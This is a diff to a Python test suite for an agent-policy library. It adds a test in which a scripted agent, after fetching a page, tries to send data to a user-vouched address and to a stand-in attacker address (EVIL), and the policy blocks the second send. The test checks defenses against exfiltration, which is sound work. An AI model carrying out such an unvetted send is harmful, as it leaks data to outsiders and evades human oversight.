@@ -18,6 +18,7 @@ from corral.policy import (
     Ledger,
     Limits,
     Manifest,
+    MemoryAudit,
     Policy,
     Quota,
     SecurityPolicy,
@@ -334,3 +335,21 @@ async def test_layers_narrow_an_agents_policy() -> None:
     layers = Layers(open_policy, mine)
     result = await ReAct("task -> answer", world.tools, lm=lm, policy=layers).run("Go")
     assert (result.tool_calls, world.sent) == (1, [])
+
+
+async def test_a_person_vouches_for_a_value_and_the_audit_says_so() -> None:
+    world, audit = World(), MemoryAudit()
+    script = [
+        Reply(calls=[Call("fetch")]),
+        Reply("Read."),
+        Reply(calls=[Call("send", {"to": "raj@outside.example"}), Call("send", {"to": EVIL})]),
+        Reply("Sent."),
+    ]
+    lm, _ = scripted_lm(script)
+    session = Session(ReAct("task -> answer", world.tools, lm=lm, policy=held(), audit=audit))
+    await session.run("Read the page")
+    session.endorse("raj@outside.example", by="user:ann", reason="I know him")
+    await session.run("Send it")
+    assert world.sent == ["raj@outside.example"]
+    (noted,) = [record for record in audit.records if record.entry == "endorsement"]
+    assert (noted.principal, noted.detail, "raj" in str(noted)) == ("user:ann", "I know him", False)
